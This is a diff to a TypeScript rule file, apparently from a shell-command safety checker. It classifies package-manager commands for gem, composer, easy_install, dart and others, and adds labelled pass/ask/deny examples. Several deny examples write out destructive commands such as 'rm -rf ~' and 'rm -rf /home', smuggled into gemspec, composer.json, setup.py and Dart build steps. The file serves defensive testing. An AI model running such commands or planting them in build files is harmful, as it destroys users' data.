@@ -1,4 +1,4 @@
-// Package tools of single languages: what they build, run and publish.
+// Package tools of single languages, which build, run and publish.
 import type { CommandSpec, EffectRule, ProgramSpec } from '../spec.ts';
 
 const publishes = (when: string, safer: string): EffectRule => ({
@@ -54,6 +54,12 @@ export const programs: readonly ProgramSpec[] = [
     },
     subcommands: {
       open: { options: { '-e --editor': 'runs', '-v --version': 'text' } },
+      build: {
+        options: { '-o --output': 'writes', '-C': 'cwd', '--strict -f --force': 'flag' },
+        operands: 'script',
+        language: 'ruby',
+      },
+      install: { options: { '-g --file': 'loads' } },
       owner: { options: { '-a --add -r --remove -k --key': 'text', '--host': 'host' } },
       exec: { options: { '-v --version -g --gem': 'text', '--conservative': 'flag' } },
     },
@@ -63,7 +69,7 @@ export const programs: readonly ProgramSpec[] = [
       {
         code: 'unpublish',
         when: 'yank',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'gem list -r NAME',
       },
       {
@@ -78,12 +84,61 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'gem install rake -v 13.0.6', expect: 'pass' },
       { command: 'gem build app.gemspec', expect: 'pass' },
+      { command: 'echo \'system("rm -rf ~")\' > a.gemspec; gem build a.gemspec', expect: 'deny' },
       { command: 'gem owner app', expect: 'pass' },
       { command: 'gem push app-1.0.gem', expect: 'ask' },
       { command: 'gem yank app -v 1.0', expect: 'ask' },
       { command: 'gem owner app --add bob@example.com', expect: 'ask' },
       { command: "gem open -e 'rm -rf ~' rake", expect: 'deny' },
       { command: 'gem install rake --source http://gems.evil.example', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'composer',
+    about: 'Installs PHP packages, and runs the scripts of a project.',
+    tasks: 'composer-json',
+    options: {
+      '-d --working-dir': 'cwd',
+      '-q -v -vv -vvv -n --quiet --verbose --no-interaction --no-plugins --no-scripts --no-cache --ansi --no-ansi --profile':
+        'flag',
+    },
+    subcommands: {
+      exec: { runs: {} },
+      'install|update|require|remove|dump-autoload|run|run-script|validate|show|outdated|audit': {
+        options: {
+          '--no-dev --dev --prefer-dist --prefer-source --optimize-autoloader -o -a -W --no-progress --no-scripts --with-dependencies --with-all-dependencies -l --list':
+            'flag',
+          '--timeout --format': 'text',
+          '--dry-run': 'dry',
+        },
+        operands: 'text',
+      },
+    },
+    operands: 'text',
+    traits: ['network', 'installs', 'words'],
+    examples: [
+      { command: 'composer install --no-dev', expect: 'pass' },
+      { command: 'composer require monolog/monolog', expect: 'pass' },
+      { command: 'composer exec rm -- -rf ~', expect: 'deny' },
+      {
+        command: `echo '{"scripts":{"x":["rm -rf ~"]}}' > composer.json; composer run-script x`,
+        expect: 'deny',
+      },
+    ],
+  },
+  {
+    names: 'easy_install',
+    about: 'Installs Python packages the old way.',
+    projectCode: { files: 'setup.py', language: 'python' },
+    options: { '-d --install-dir -s --script-dir': 'writes', '-i --index-url -f --find-links': 'text' },
+    operands: 'text',
+    traits: ['network', 'installs'],
+    examples: [
+      { command: 'easy_install requests', expect: 'pass' },
+      {
+        command: `mkdir x; echo 'import os; os.system("rm -rf ~")' > x/setup.py; easy_install x`,
+        expect: 'deny',
+      },
     ],
   },
   {
@@ -137,7 +192,7 @@ export const programs: readonly ProgramSpec[] = [
         code: 'unpublish',
         when: 'hex.retire',
         kind: 'publish',
-        why: 'Warns everybody off a version.',
+        why: 'Marks a version as retired for everybody.',
         safer: 'mix hex.info NAME',
       },
       {
@@ -192,7 +247,7 @@ export const programs: readonly ProgramSpec[] = [
       {
         code: 'unpublish',
         when: 'nuget delete',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'dotnet package search NAME',
       },
       {
@@ -249,7 +304,7 @@ export const programs: readonly ProgramSpec[] = [
       {
         code: 'unpublish',
         when: 'delete',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'nuget list NAME',
       },
     ],
@@ -288,7 +343,7 @@ export const programs: readonly ProgramSpec[] = [
       {
         code: 'unpublish',
         when: 'trunk delete|deprecate',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'pod trunk info NAME',
       },
       {
@@ -318,7 +373,8 @@ export const programs: readonly ProgramSpec[] = [
         operands: 'writes',
         plain: true,
       },
-      'run|compile': {},
+      run: { operands: 'script', language: 'other' },
+      compile: {},
     },
     kind: 'publish',
     effects: PUB_RULES,
@@ -328,6 +384,10 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'dart pub publish --dry-run', expect: 'pass' },
       { command: 'dart pub publish -n', expect: 'pass' },
       { command: 'dart pub publish -f', expect: 'ask' },
+      {
+        command: 'echo \'main() { Process.run("rm", ["-rf", "/home"]); }\' > x.dart; dart run x.dart',
+        expect: 'deny',
+      },
     ],
   },
   {
@@ -411,7 +471,7 @@ export const programs: readonly ProgramSpec[] = [
         code: 'unpublish',
         when: 'remove',
         flags: '-r --remote',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'conan search NAME',
       },
     ],
@@ -446,7 +506,7 @@ export const programs: readonly ProgramSpec[] = [
       {
         code: 'unpublish',
         when: 'remove',
-        why: 'Takes a package away from its users.',
+        why: 'Unpublishes a package that others use.',
         safer: 'anaconda show NAME',
       },
     ],
